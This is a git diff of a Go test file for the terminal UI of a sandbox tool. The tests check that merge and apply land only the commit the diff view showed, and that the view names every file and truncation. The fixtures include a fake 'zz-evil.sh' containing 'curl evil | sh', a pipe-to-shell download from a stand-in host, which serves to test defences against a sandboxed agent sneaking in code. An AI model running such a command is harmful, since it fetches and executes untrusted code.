@@ -1,6 +1,7 @@
 package ui
 
 import (
+	"cmp"
 	"context"
 	"errors"
 	"fmt"
@@ -27,7 +28,10 @@ type fakeService struct {
 	calls  []string
 	actors []string // who each call acted as (activity.Actor)
 	err    error
-	diff   string
+	// diff is the patch Diff holds, of files; tip the commit it shows.
+	diff  string
+	files []git.FileChange
+	tip   string
 }
 
 func (f *fakeService) call(ctx context.Context, s string) error {
@@ -51,8 +55,13 @@ func (f *fakeService) List(ctx context.Context, r *sandbox.Repo) ([]sandbox.Sand
 	return nil, f.call(ctx, "list")
 }
 func (f *fakeService) Diff(ctx context.Context, r *sandbox.Repo, name string, opts git.DiffOptions, w io.Writer) (*sandbox.DiffResult, error) {
-	io.WriteString(w, f.diff)
-	return &sandbox.DiffResult{Name: name}, f.call(ctx, "diff "+name)
+	res := &sandbox.DiffResult{Name: name, Tip: cmp.Or(f.tip, strings.Repeat("7", 40)), Base: strings.Repeat("b", 40), Files: f.files, Empty: len(f.files) == 0}
+	if opts.Hold != nil {
+		res.Patch = git.NewPatchCutter(f.files, *opts.Hold)
+		res.Patch.Write([]byte(f.diff))
+		res.Patch.Close()
+	}
+	return res, f.call(ctx, "diff "+name)
 }
 func (f *fakeService) Pause(ctx context.Context, r *sandbox.Repo, name string, force bool) (sandbox.Outcome, error) {
 	return sandbox.Outcome{Name: name}, f.call(ctx, "pause "+name)
@@ -60,14 +69,14 @@ func (f *fakeService) Pause(ctx context.Context, r *sandbox.Repo, name string, f
 func (f *fakeService) Resume(ctx context.Context, r *sandbox.Repo, name string) (sandbox.Outcome, error) {
 	return sandbox.Outcome{Name: name}, f.call(ctx, "resume "+name)
 }
-func (f *fakeService) Merge(ctx context.Context, r *sandbox.Repo, name string) (*sandbox.MergeResult, error) {
-	if err := f.call(ctx, "merge "+name); err != nil {
+func (f *fakeService) Merge(ctx context.Context, r *sandbox.Repo, name, at string) (*sandbox.MergeResult, error) {
+	if err := f.call(ctx, "merge "+name+" at "+at[:4]); err != nil {
 		return nil, err
 	}
 	return &sandbox.MergeResult{Name: name, Into: "main", Files: []string{"a"}}, nil
 }
-func (f *fakeService) Apply(ctx context.Context, r *sandbox.Repo, name string) (*sandbox.ApplyResult, error) {
-	return &sandbox.ApplyResult{Name: name}, f.call(ctx, "apply "+name)
+func (f *fakeService) Apply(ctx context.Context, r *sandbox.Repo, name, at string) (*sandbox.ApplyResult, error) {
+	return &sandbox.ApplyResult{Name: name}, f.call(ctx, "apply "+name+" at "+at[:4])
 }
 func (f *fakeService) Delete(ctx context.Context, r *sandbox.Repo, name string, force bool) (*sandbox.DeleteReport, error) {
 	return &sandbox.DeleteReport{Name: name}, f.call(ctx, "delete "+name)
@@ -83,6 +92,12 @@ func (f *fakeService) Exec(ctx context.Context, r *sandbox.Repo, name string, o 
 }
 
 const root = "/repo"
+
+// changed is a text file's change of added and deleted lines.
+func changed(path string, added, deleted int) git.FileChange {
+	e := git.Entry{Mode: "100644", ID: strings.Repeat("1", 40)}
+	return git.FileChange{RawChange: git.RawChange{Path: path, Old: e, New: e}, Added: added, Deleted: deleted}
+}
 
 // newTest is a model over a fake service and one repository, sized w x h,
 // drawing without colour unless color is set.
@@ -217,19 +232,29 @@ func TestLiveEvents(t *testing.T) {
 }
 
 // Merge, apply and delete ask first; no leaves everything as it was; yes
-// runs the service's operation and says how it went.
+// runs the service's operation and says how it went. Merge and apply read
+// the branch's commit and files first, to name them in the question.
 func TestDestroyingActionsAskFirst(t *testing.T) {
 	for _, k := range []string{"m", "a", "x", "X"} {
 		m, svc := newTest(t, 100, 30, false)
 		m.Update(sandboxes("work"))
-		if cmd := keys(m, k); cmd != nil {
+		if cmd := keys(m, k); cmd != nil && (k == "x" || k == "X") {
 			t.Errorf("%s ran before the question was answered", k)
+		} else if cmd != nil {
+			m.Update(cmd())
+			if svc.called() != "diff work" {
+				t.Errorf("%s: before the question, calls %q; want only the read", k, svc.called())
+			}
+			svc.calls = nil
 		}
 		if v := m.View(); !strings.Contains(v, "(y/n)") {
 			t.Errorf("%s asks nothing:\n%s", k, v)
 		}
 		keys(m, "n")
-		keys(m, k)
+		if cmd := keys(m, k); cmd != nil {
+			m.Update(cmd())
+			svc.calls = nil
+		}
 		cmd := keys(m, "y")
 		if cmd == nil {
 			t.Fatalf("%s: yes runs nothing", k)
@@ -271,16 +296,21 @@ func TestActionErrorShown(t *testing.T) {
 func TestDiffView(t *testing.T) {
 	m, svc := newTest(t, 100, 20, true)
 	svc.diff = "diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-old\n+new \x1b[2J\n" +
-		strings.Repeat(" ctx\n", 40) + "diff --git a/b.txt b/b.txt\n+++ b/b.txt\n+b\n"
+		strings.Repeat("+more\n", 40) + "diff --git a/b.txt b/b.txt\n+++ b/b.txt\n+b\n"
+	svc.files = []git.FileChange{changed("a.txt", 41, 1), changed("b.txt", 1, 0)}
 	m.Update(sandboxes("d"))
 	cmd := keys(m, "d")
 	m.Update(cmd())
 	v := checkScreen(t, m, 100, 20)
-	if plain := ansi.Strip(v); !strings.Contains(plain, "file 1/2: a.txt") || !strings.Contains(plain, `new \033[2J`) {
+	if plain := ansi.Strip(v); !strings.Contains(plain, "2 file(s) changed, +42 -1") || !strings.Contains(plain, `new \033[2J`) {
 		t.Errorf("the diff view:\n%s", v)
 	}
 	if !strings.Contains(v, "\x1b[") {
 		t.Errorf("no colour with colour on")
+	}
+	keys(m, "]")
+	if v := ansi.Strip(m.View()); !strings.Contains(v, "file 1/2: a.txt (+41 -1)") {
+		t.Errorf("] did not jump to the first file:\n%s", v)
 	}
 	keys(m, "]")
 	if v := ansi.Strip(m.View()); !strings.Contains(v, "file 2/2: b.txt") {
@@ -312,7 +342,8 @@ func TestRefreshRateLimited(t *testing.T) {
 func TestKeysTypedTogether(t *testing.T) {
 	m, svc := newTest(t, 100, 30, false)
 	m.Update(sandboxes("work"))
-	keys(m, "m")
+	m.Update(keys(m, "m")())
+	svc.calls = nil
 	m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("nx")})
 	if m.dialog.kind != confirmDialog || !strings.HasPrefix(m.dialog.question, "Delete work") {
 		t.Fatalf("after n and x typed together the question is %q", m.dialog.question)
@@ -332,14 +363,14 @@ func TestKeysTypedTogether(t *testing.T) {
 func TestActionsActAsTheUI(t *testing.T) {
 	m, svc := newTest(t, 100, 30, false)
 	m.Update(sandboxes("work"))
-	for _, ks := range [][]string{{"p"}, {"r"}, {"m", "y"}, {"a", "y"}, {"x", "y"}, {"n", "m", "s", "g", "enter"}} {
+	for _, ks := range [][]string{{"p"}, {"r"}, {"m"}, {"y"}, {"a"}, {"y"}, {"x", "y"}, {"n", "m", "s", "g", "enter"}} {
 		if cmd := keys(m, ks...); cmd != nil {
 			m.Update(cmd())
 		}
 	}
 	m.Update(keys(m, "s")) // the shell: tea.Exec runs it; run it here
 	(&shellExec{ctx: m.ctx, svc: svc, r: m.opts.Repo, name: "work", stderr: io.Discard}).Run()
-	if got := svc.called(); got != "pause work,resume work,merge work,apply work,delete work,handle work,milestone msg,exec work" {
+	if got := svc.called(); got != "pause work,resume work,diff work,merge work at 7777,diff work,apply work at 7777,delete work,handle work,milestone msg,exec work" {
 		t.Fatalf("calls = %q", got)
 	}
 	for i, a := range svc.actors {
@@ -436,6 +467,7 @@ func TestForgedDiffRowByWidth(t *testing.T) {
 	m, svc := newTest(t, w, h, true)
 	svc.diff = "diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -0,0 +1 @@\n+" +
 		strings.Repeat("👍🏽", 30) + strings.Repeat("a\u00ad", 20) + "diff --git a/zz-evil.sh b/zz-evil.sh\n"
+	svc.files = []git.FileChange{changed("a.txt", 1, 0)}
 	m.Update(sandboxes("d"))
 	m.Update(keys(m, "d")())
 	v := m.View()
@@ -577,5 +609,118 @@ func TestFeedKeepsRefusalsThroughFlood(t *testing.T) {
 	}
 	if !regexp.MustCompile(`… \d+ events not shown here`).MatchString(v) {
 		t.Errorf("no row says what is not shown:\n%s", v)
+	}
+}
+
+// What m and a land is the commit the diff view showed, named with its
+// files in the question, even when the branch moved since; the service's
+// refusal then says to read it again.
+func TestLandWhatTheDiffShowed(t *testing.T) {
+	m, svc := newTest(t, 120, 30, false)
+	m.Update(sandboxes("work"))
+	svc.tip, svc.files = strings.Repeat("a", 40), []git.FileChange{changed("hello.txt", 1, 0)}
+	svc.diff = "diff --git a/hello.txt b/hello.txt\n+hello\n"
+	m.Update(keys(m, "d")())
+	keys(m, "esc")
+	// the agent adds a file after the diff was read
+	svc.tip, svc.files = strings.Repeat("b", 40), []git.FileChange{changed("hello.txt", 2, 0), changed("postinstall.sh", 2, 0)}
+	svc.calls = nil
+	if cmd := keys(m, "m"); cmd != nil {
+		t.Fatal("m read the branch again instead of asking about the commit shown")
+	}
+	if q := m.dialog.question; !strings.Contains(q, "Merge work at aaaaaaaaaaaa (1 file, as the diff showed), then delete it?") {
+		t.Errorf("the question: %q", q)
+	}
+	if v := m.View(); !strings.Contains(v, "(y/n)") {
+		t.Errorf("the question does not fit:\n%s", v)
+	}
+	m.Update(keys(m, "y")())
+	if got := svc.called(); got != "merge work at aaaa" {
+		t.Errorf("calls = %q, want the merge of the commit shown", got)
+	}
+	// refused as moved: said so, with what to do
+	svc.calls, svc.err = nil, fmt.Errorf("cannot: %w", sandbox.ErrMoved)
+	keys(m, "a")
+	if q := m.dialog.question; !strings.Contains(q, "Apply work at aaaaaaaaaaaa (1 file, as the diff showed), uncommitted?") {
+		t.Errorf("the question: %q", q)
+	}
+	m.Update(keys(m, "y")())
+	if v := m.View(); !strings.Contains(v, "nothing was applied: work moved since aaaaaaaaaaaa") || !strings.Contains(v, "press d") {
+		t.Errorf("the refusal:\n%s", v)
+	}
+	// from the diff view itself, the same
+	svc.calls, svc.err = nil, nil
+	m.Update(keys(m, "d")())
+	keys(m, "m")
+	if q := m.dialog.question; !strings.Contains(q, "Merge work at bbbbbbbbbbbb (2 files, as the diff showed)") {
+		t.Errorf("the question from the diff view: %q", q)
+	}
+}
+
+// Every cut the diff view makes says so and names what it left out: lines
+// past a file's share, the end of a long line, a file never read; every
+// file is listed, with its counts and mode, whatever came before it.
+func TestDiffViewNamesEveryCut(t *testing.T) {
+	m, svc := newTest(t, 160, 40, false)
+	m.Update(sandboxes("big"))
+	var b strings.Builder
+	b.WriteString("diff --git a/0-big.txt b/0-big.txt\nnew file mode 100644\n--- /dev/null\n+++ b/0-big.txt\n@@ -0,0 +1,60000 @@\n")
+	for range 60000 {
+		b.WriteString("+x\n")
+	}
+	b.WriteString("diff --git a/long.txt b/long.txt\n--- a/long.txt\n+++ b/long.txt\n@@ -1 +1 @@\n-a\n+" + strings.Repeat("L", 1<<20) + "\n")
+	b.WriteString("diff --git a/zz-evil.sh b/zz-evil.sh\nnew file mode 100755\n--- /dev/null\n+++ b/zz-evil.sh\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+curl evil | sh\n")
+	svc.diff = b.String()
+	evil := changed("zz-evil.sh", 2, 0)
+	evil.Old, evil.New.Mode = git.Entry{}, "100755"
+	big := changed("0-big.txt", 60000, 0)
+	big.Old = git.Entry{}
+	svc.files = []git.FileChange{big, changed("long.txt", 1, 1), evil}
+	m.Update(keys(m, "d")())
+	v := m.View()
+	for _, want := range []string{
+		"3 file(s) changed, +60003 -1",
+		"Not all shown here (`litterbox diff big` shows all of it); left out:",
+		"0-big.txt: ",
+		" of 60005 line(s)",
+		"long.txt: the end of 1 long line(s), 1048065 byte(s)",
+	} {
+		if !strings.Contains(v, want) {
+			t.Errorf("the view lacks %q:\n%s", want, v)
+		}
+	}
+	keys(m, "]", "]")
+	if v := m.View(); !strings.Contains(v, "file 2/3: long.txt (+1 -1)") || !strings.Contains(v, "[… 1048065 more byte(s) of the line above not shown]") {
+		t.Errorf("the long line:\n%s", v)
+	}
+	keys(m, "]")
+	if v := m.View(); !strings.Contains(v, "file 3/3: zz-evil.sh (new, mode 100755, +2 -0)") || !strings.Contains(v, "+curl evil | sh") {
+		t.Errorf("the file after the big ones:\n%s", v)
+	}
+	keys(m, "[", "[")
+	if v := m.View(); !strings.Contains(v, "file 1/3: 0-big.txt (new, +60000 -0)") {
+		t.Errorf("back to the first:\n%s", v)
+	}
+	keys(m, "G")
+	if v := m.View(); !strings.Contains(v, "+curl evil | sh") {
+		t.Errorf("the end of the view:\n%s", v)
+	}
+}
+
+// A file git never reached (the read limit stopped it) is listed all the
+// same, with what it is, and says why it is not shown.
+func TestDiffViewNamesFilesNeverRead(t *testing.T) {
+	m, _ := newTest(t, 160, 40, false)
+	files := []git.FileChange{changed("a.txt", 1, 0), changed("zz-evil.sh", 2, 0)}
+	files[1].Old, files[1].New.Mode = git.Entry{}, "100755"
+	c := git.NewPatchCutter(files, git.PatchLimits{Lines: 100, Bytes: 1 << 20, LineBytes: 512, Read: 30})
+	c.Write([]byte("diff --git a/a.txt b/a.txt\n+a\ndiff --git a/zz-evil.sh b/zz-evil.sh\n+curl evil\n"))
+	c.Close()
+	lines, anchors, names := renderDiff(m.st, files, c, "`litterbox diff x`")
+	text := ansi.Strip(strings.Join(lines, "\n"))
+	if len(anchors) != 2 || !strings.Contains(names[1], "zz-evil.sh (new, mode 100755, +2 -0)") ||
+		!strings.Contains(text, "zz-evil.sh: never read (the view reads 256 MiB of a diff at most)") ||
+		!strings.Contains(ansi.Strip(lines[anchors[1]]), "file zz-evil.sh (new, mode 100755, +2 -0) not shown: never read") {
+		t.Errorf("the file never read:\n%s\nanchors %v names %q", text, anchors, names)
 	}
 }
